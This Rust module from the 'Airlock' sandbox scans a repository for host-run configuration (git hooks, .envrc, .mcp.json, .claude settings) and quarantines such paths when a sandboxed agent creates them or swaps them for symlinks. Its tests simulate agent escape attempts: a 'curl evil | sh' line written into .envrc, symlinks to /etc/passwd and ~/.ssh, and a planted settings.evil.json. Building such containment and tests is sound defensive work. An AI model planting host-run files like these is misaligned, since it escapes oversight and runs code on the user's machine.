//! Repo paths the host runs later (SECURITY §4): which ones exist, which parents must be
//! pinned, where `gitdir:` pointers lead, and — at session end — quarantining the listed paths
//! that appeared (or were swapped) while the agent ran.
//!
//! Scanning never follows a symlink inside the repo: a listed path that is a symlink is recorded
//! with its target and checked again at the end, never bound.

use std::ffi::OsString;
use std::fs;
use std::io;
use std::path::{Component, Path, PathBuf};

/// Top-level repo entries the host (or the developer's tools) run or read as configuration.
pub const TOP_LEVEL: &[&str] =
    &[".airlock.toml", ".envrc", ".vscode", ".idea", ".mcp.json", ".husky"];
/// Claude Code settings files that are always recorded, present or not (`settings*.json`).
pub const CLAUDE_SETTINGS: &[&str] = &["settings.json", "settings.local.json"];
/// How deep `.git/modules/*/modules/*…` is followed.
const MAX_MODULE_DEPTH: usize = 4;

#[derive(Debug, thiserror::Error)]
pub enum ProtectError {
    #[error("reading {path}: {source}")]
    Io {
        path: PathBuf,
        #[source]
        source: io::Error,
    },
    #[error(
        "{path} is a symlink; Airlock cannot protect a repo whose `.git` is a symlink — replace it \
         with the directory or a `gitdir:` file"
    )]
    GitSymlink { path: PathBuf },
    #[error("{path}: malformed `gitdir:` pointer; expected a line `gitdir: <path>`")]
    BadGitdir { path: PathBuf },
}

fn io_err(path: &Path) -> impl FnOnce(io::Error) -> ProtectError + '_ {
    move |source| ProtectError::Io { path: path.to_path_buf(), source }
}

/// What a listed path was when the session started.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum State {
    Dir,
    File,
    Symlink(PathBuf),
    Absent,
}

/// One protected path: `root` is the host directory it lives in (the repo, or an external
/// git dir), `rel` the path below it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listed {
    pub root: PathBuf,
    pub rel: PathBuf,
    pub state: State,
}

impl Listed {
    pub fn host_path(&self) -> PathBuf {
        self.root.join(&self.rel)
    }
}

/// The protected-path plan for one session.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Protection {
    /// Every listed path with its state at start.
    pub listed: Vec<Listed>,
    /// Directories (host paths) bound onto themselves so they cannot be renamed away.
    pub pinned: Vec<PathBuf>,
    /// Git directories outside the repo that `gitdir:` pointers lead to (bound read-write at
    /// their host path, "with the repo's access").
    pub external: Vec<PathBuf>,
}

fn state_of(path: &Path) -> Result<State, ProtectError> {
    match fs::symlink_metadata(path) {
        Ok(meta) if meta.file_type().is_symlink() => {
            Ok(State::Symlink(fs::read_link(path).map_err(io_err(path))?))
        }
        Ok(meta) if meta.is_dir() => Ok(State::Dir),
        Ok(_) => Ok(State::File),
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(State::Absent),
        // ENOTDIR: a parent is a file; nothing can be planted below it without replacing it.
        Err(e) if e.raw_os_error() == Some(libc::ENOTDIR) => Ok(State::Absent),
        Err(source) => Err(ProtectError::Io { path: path.to_path_buf(), source }),
    }
}

/// The first component strictly between `root` and `root/rel` that is a symlink (or not a
/// directory), if any: a path below it must never be looked up through it.
fn blocked_parent(root: &Path, rel: &Path) -> Option<PathBuf> {
    let mut cur = root.to_path_buf();
    let comps: Vec<_> = rel.components().collect();
    for comp in comps.iter().take(comps.len().saturating_sub(1)) {
        cur.push(comp);
        match fs::symlink_metadata(&cur) {
            Ok(m) if m.is_dir() => {}
            Ok(_) => return Some(cur),
            Err(_) => return None,
        }
    }
    None
}

/// [`state_of`] for `root/rel` without following a symlinked parent: such a path counts as
/// the parent symlink itself.
fn state_beneath(root: &Path, rel: &Path) -> Result<(PathBuf, State), ProtectError> {
    match blocked_parent(root, rel) {
        Some(parent) => Ok((parent.clone(), state_of(&parent)?)),
        None => Ok((root.join(rel), state_of(&root.join(rel))?)),
    }
}

/// Reads a `gitdir: <path>` file, resolving a relative path against `base`.
fn read_gitdir_pointer(file: &Path, base: &Path) -> Result<PathBuf, ProtectError> {
    let text = fs::read_to_string(file).map_err(io_err(file))?;
    let target = text
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("gitdir:"))
        .map(str::trim)
        .filter(|t| !t.is_empty())
        .ok_or_else(|| ProtectError::BadGitdir { path: file.to_path_buf() })?;
    Ok(normalize(&base.join(target)))
}

/// Lexical normalization (`a/b/../c` → `a/c`) without touching the filesystem.
pub fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for comp in path.components() {
        match comp {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

struct Scan {
    prot: Protection,
}

impl Scan {
    fn list(&mut self, root: &Path, rel: impl Into<PathBuf>) -> Result<State, ProtectError> {
        let rel = rel.into();
        let (path, state) = state_beneath(root, &rel)?;
        // Under a symlinked parent the parent itself is what is recorded (and checked later).
        let rel = path.strip_prefix(root).map(Path::to_path_buf).unwrap_or(rel);
        if !self.prot.listed.iter().any(|l| l.root == root && l.rel == rel) {
            self.prot.listed.push(Listed { root: root.to_path_buf(), rel, state: state.clone() });
        }
        Ok(state)
    }

    fn pin(&mut self, dir: PathBuf) {
        if !self.prot.pinned.contains(&dir) {
            self.prot.pinned.push(dir);
        }
    }

    /// hooks + config of one git dir (`root/rel`), its nested modules, and its commondir.
    fn git_dir(&mut self, root: &Path, rel: &Path, depth: usize) -> Result<(), ProtectError> {
        let dir = root.join(rel);
        if state_of(&dir)? != State::Dir {
            return Ok(());
        }
        self.pin(dir.clone());
        self.list(root, rel.join("hooks"))?;
        self.list(root, rel.join("config"))?;
        let modules = dir.join("modules");
        if depth < MAX_MODULE_DEPTH && state_of(&modules)? == State::Dir {
            self.pin(modules.clone());
            let mut names: Vec<OsString> = fs::read_dir(&modules)
                .map_err(io_err(&modules))?
                .filter_map(Result::ok)
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                .map(|e| e.file_name())
                .collect();
            names.sort();
            for name in names {
                self.git_dir(root, &rel.join("modules").join(name), depth + 1)?;
            }
        }
        let commondir = dir.join("commondir");
        if state_of(&commondir)? == State::File {
            let text = fs::read_to_string(&commondir).map_err(io_err(&commondir))?;
            let common = normalize(&dir.join(text.trim()));
            self.external_git_dir(&common, depth + 1)?;
        }
        Ok(())
    }

    /// A git dir outside the repo (or the commondir of a worktree).
    fn external_git_dir(&mut self, dir: &Path, depth: usize) -> Result<(), ProtectError> {
        if depth > MAX_MODULE_DEPTH || state_of(dir)? != State::Dir {
            return Ok(());
        }
        if !self.prot.external.iter().any(|e| dir.starts_with(e)) {
            self.prot.external.push(dir.to_path_buf());
        }
        self.git_dir(dir, Path::new(""), depth)
    }
}

/// Scans `repo` (a canonical host path) for the protected paths of SECURITY §4.
pub fn scan(repo: &Path) -> Result<Protection, ProtectError> {
    let mut s = Scan { prot: Protection::default() };
    let dot_git = repo.join(".git");
    match state_of(&dot_git)? {
        State::Dir => s.git_dir(repo, Path::new(".git"), 0)?,
        State::File => {
            let target = read_gitdir_pointer(&dot_git, repo)?;
            // The pointer file itself is host-run configuration too: pin it read-only.
            s.list(repo, ".git")?;
            if target.starts_with(repo) {
                if let Ok(rel) = target.strip_prefix(repo) {
                    s.git_dir(repo, rel, 0)?;
                }
            } else {
                s.external_git_dir(&target, 0)?;
            }
        }
        State::Symlink(_) => return Err(ProtectError::GitSymlink { path: dot_git }),
        State::Absent => {}
    }
    for name in TOP_LEVEL {
        s.list(repo, *name)?;
    }
    let claude = repo.join(".claude");
    let claude_state = state_of(&claude)?;
    let mut settings: Vec<String> = CLAUDE_SETTINGS.iter().map(|s| s.to_string()).collect();
    if claude_state == State::Dir {
        s.pin(claude.clone());
        for entry in fs::read_dir(&claude).map_err(io_err(&claude))?.filter_map(Result::ok) {
            let name = entry.file_name().to_string_lossy().into_owned();
            if is_claude_settings(&name) && !settings.contains(&name) {
                settings.push(name);
            }
        }
    }
    settings.sort();
    for name in settings {
        s.list(repo, Path::new(".claude").join(name))?;
    }
    Ok(s.prot)
}

/// `settings*.json` in `.claude/`.
pub fn is_claude_settings(name: &str) -> bool {
    name.starts_with("settings") && name.ends_with(".json")
}

/// A path moved out of the repo at session end.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Quarantined {
    /// Host path where it was found.
    pub path: PathBuf,
    /// Where it is now.
    pub moved_to: PathBuf,
    /// `created` (absent at start) or `replaced` (a symlink that changed).
    pub why: &'static str,
}

/// Compares the listed paths with their state at start and moves every path that appeared
/// (or a symlink that changed) into `dest` (`~/.airlock/quarantine/<session>/`).
pub fn quarantine(prot: &Protection, repo: &Path, dest: &Path) -> io::Result<Vec<Quarantined>> {
    let mut moved = Vec::new();
    let mut candidates: Vec<(PathBuf, &'static str)> = Vec::new();
    for item in &prot.listed {
        // A parent the agent replaced with a symlink is what gets quarantined, never a path
        // looked up through it.
        let (path, now) = state_beneath(&item.root, &item.rel).map_err(io::Error::other)?;
        if path != item.host_path() {
            if !candidates.iter().any(|(p, _)| *p == path) {
                candidates.push((path, "replaced"));
            }
            continue;
        }
        let why = match (&item.state, &now) {
            (State::Absent, State::Absent) => continue,
            (State::Absent, _) => "created",
            (State::Symlink(a), State::Symlink(b)) if a == b => continue,
            (State::Symlink(_), _) => "replaced",
            _ => continue,
        };
        candidates.push((item.host_path(), why));
    }
    // New `.claude/settings*.json` names that did not exist at start.
    let claude = repo.join(".claude");
    if let Ok(State::Dir) = state_of(&claude) {
        for entry in fs::read_dir(&claude)?.filter_map(Result::ok) {
            let name = entry.file_name().to_string_lossy().into_owned();
            let path = claude.join(&name);
            if is_claude_settings(&name) && !prot.listed.iter().any(|l| l.host_path() == path) {
                candidates.push((path, "created"));
            }
        }
    }
    for (path, why) in candidates {
        let rel = path.strip_prefix("/").unwrap_or(&path);
        let target = dest.join(rel);
        if let Some(parent) = target.parent() {
            fs::create_dir_all(parent)?;
        }
        move_no_follow(&path, &target)?;
        moved.push(Quarantined { path, moved_to: target, why });
    }
    Ok(moved)
}

/// rename(2), or across filesystems a copy that never follows symlinks, then removal.
fn move_no_follow(from: &Path, to: &Path) -> io::Result<()> {
    match fs::rename(from, to) {
        Ok(()) => Ok(()),
        Err(e) if e.raw_os_error() == Some(libc::EXDEV) => {
            copy_no_follow(from, to, 0)?;
            if fs::symlink_metadata(from)?.is_dir() {
                fs::remove_dir_all(from)
            } else {
                fs::remove_file(from)
            }
        }
        Err(e) => Err(e),
    }
}

/// Files above this size are not copied into quarantine (they are still removed).
const MAX_QUARANTINE_FILE: u64 = 64 << 20;

fn copy_no_follow(from: &Path, to: &Path, depth: usize) -> io::Result<()> {
    let meta = fs::symlink_metadata(from)?;
    if meta.file_type().is_symlink() {
        std::os::unix::fs::symlink(fs::read_link(from)?, to)
    } else if meta.is_dir() {
        if depth > 32 {
            return Ok(());
        }
        fs::create_dir_all(to)?;
        for entry in fs::read_dir(from)?.filter_map(Result::ok) {
            copy_no_follow(&entry.path(), &to.join(entry.file_name()), depth + 1)?;
        }
        Ok(())
    } else if meta.is_file() && meta.len() <= MAX_QUARANTINE_FILE {
        fs::copy(from, to).map(|_| ())
    } else {
        fs::write(to.with_extension("skipped"), format!("not copied: {} bytes\n", meta.len()))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn states(p: &Protection) -> Vec<(String, State)> {
        p.listed.iter().map(|l| (l.rel.display().to_string(), l.state.clone())).collect()
    }

    #[test]
    fn scans_git_dir_modules_and_top_level() {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path();
        fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        fs::write(repo.join(".git/config"), "").unwrap();
        fs::create_dir_all(repo.join(".git/modules/sub/hooks")).unwrap();
        fs::write(repo.join(".airlock.toml"), "").unwrap();
        fs::create_dir_all(repo.join(".claude")).unwrap();
        fs::write(repo.join(".claude/settings.x.json"), "{}").unwrap();
        std::os::unix::fs::symlink("/etc/passwd", repo.join(".envrc")).unwrap();
        let p = scan(repo).unwrap();
        let s = states(&p);
        assert!(s.contains(&(".git/hooks".into(), State::Dir)));
        assert!(s.contains(&(".git/config".into(), State::File)));
        assert!(s.contains(&(".git/modules/sub/hooks".into(), State::Dir)));
        assert!(s.contains(&(".git/modules/sub/config".into(), State::Absent)));
        assert!(s.contains(&(".airlock.toml".into(), State::File)));
        assert!(s.contains(&(".envrc".into(), State::Symlink("/etc/passwd".into()))));
        assert!(s.contains(&(".mcp.json".into(), State::Absent)));
        assert!(s.contains(&(".claude/settings.json".into(), State::Absent)));
        assert!(s.contains(&(".claude/settings.x.json".into(), State::File)));
        assert!(p.pinned.contains(&repo.join(".git")));
        assert!(p.pinned.contains(&repo.join(".git/modules/sub")));
        assert!(p.pinned.contains(&repo.join(".claude")));
        assert!(p.external.is_empty());
    }

    #[test]
    fn worktree_pointer_leads_to_external_gitdir_and_commondir() {
        let tmp = tempfile::tempdir().unwrap();
        let main = tmp.path().join("main");
        fs::create_dir_all(main.join(".git/hooks")).unwrap();
        fs::create_dir_all(main.join(".git/worktrees/wt")).unwrap();
        fs::write(main.join(".git/worktrees/wt/commondir"), "../..\n").unwrap();
        let wt = tmp.path().join("wt");
        fs::create_dir_all(&wt).unwrap();
        fs::write(
            wt.join(".git"),
            format!("gitdir: {}\n", main.join(".git/worktrees/wt").display()),
        )
        .unwrap();
        let p = scan(&wt).unwrap();
        assert!(p.external.contains(&main.join(".git/worktrees/wt")));
        assert!(p.external.contains(&main.join(".git")));
        assert!(p.listed.iter().any(|l| l.host_path() == main.join(".git/hooks")));
        assert!(p.listed.iter().any(|l| l.host_path() == main.join(".git/config")));
        assert!(p.listed.iter().any(|l| l.rel == Path::new(".git") && l.state == State::File));
    }

    #[test]
    fn a_parent_swapped_for_a_symlink_is_quarantined_without_following_it() {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("r");
        fs::create_dir_all(&repo).unwrap();
        let outside = tmp.path().join("host-config");
        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join("settings.json"), "host file").unwrap();
        let p = scan(&repo).unwrap();
        // The agent points `.claude` at a host directory holding a `settings.json`.
        std::os::unix::fs::symlink(&outside, repo.join(".claude")).unwrap();
        let moved = quarantine(&p, &repo, &tmp.path().join("q")).unwrap();
        assert_eq!(moved.len(), 1, "{moved:?}");
        assert_eq!(moved[0].path, repo.join(".claude"));
        assert_eq!(fs::read_to_string(outside.join("settings.json")).unwrap(), "host file");
        assert!(fs::symlink_metadata(repo.join(".claude")).is_err());
        // A repo that starts with a symlinked `.claude` records the link, not paths through it.
        std::os::unix::fs::symlink(&outside, repo.join(".claude")).unwrap();
        let p = scan(&repo).unwrap();
        assert!(
            p.listed
                .iter()
                .any(|l| l.rel == Path::new(".claude") && matches!(l.state, State::Symlink(_)))
        );
        assert!(
            !p.listed.iter().any(|l| l.rel.starts_with(".claude") && l.rel != Path::new(".claude"))
        );
        assert!(quarantine(&p, &repo, &tmp.path().join("q2")).unwrap().is_empty());
    }

    #[test]
    fn git_symlink_is_refused() {
        let tmp = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink("/", tmp.path().join(".git")).unwrap();
        assert!(matches!(scan(tmp.path()), Err(ProtectError::GitSymlink { .. })));
    }

    #[test]
    fn quarantine_moves_created_and_swapped_paths_only() {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("r");
        fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        fs::write(repo.join(".airlock.toml"), "x").unwrap();
        std::os::unix::fs::symlink("a", repo.join(".mcp.json")).unwrap();
        let p = scan(&repo).unwrap();
        fs::write(repo.join(".envrc"), "curl evil | sh").unwrap();
        fs::create_dir_all(repo.join(".claude")).unwrap();
        fs::write(repo.join(".claude/settings.local.json"), "{}").unwrap();
        fs::write(repo.join(".claude/settings.evil.json"), "{}").unwrap();
        fs::remove_file(repo.join(".mcp.json")).unwrap();
        std::os::unix::fs::symlink("/home/u/.ssh", repo.join(".mcp.json")).unwrap();
        let dest = tmp.path().join("q");
        let moved = quarantine(&p, &repo, &dest).unwrap();
        let names: Vec<_> = moved.iter().map(|m| m.path.clone()).collect();
        assert!(names.contains(&repo.join(".envrc")));
        assert!(names.contains(&repo.join(".claude/settings.local.json")));
        assert!(names.contains(&repo.join(".claude/settings.evil.json")));
        assert!(names.contains(&repo.join(".mcp.json")));
        assert_eq!(moved.len(), 4, "{moved:?}");
        assert!(!repo.join(".envrc").exists());
        assert!(repo.join(".airlock.toml").exists());
        let q = dest.join(repo.join(".envrc").strip_prefix("/").unwrap());
        assert_eq!(fs::read_to_string(q).unwrap(), "curl evil | sh");
        let link = dest.join(repo.join(".mcp.json").strip_prefix("/").unwrap());
        assert_eq!(fs::read_link(link).unwrap(), PathBuf::from("/home/u/.ssh"));
    }
}
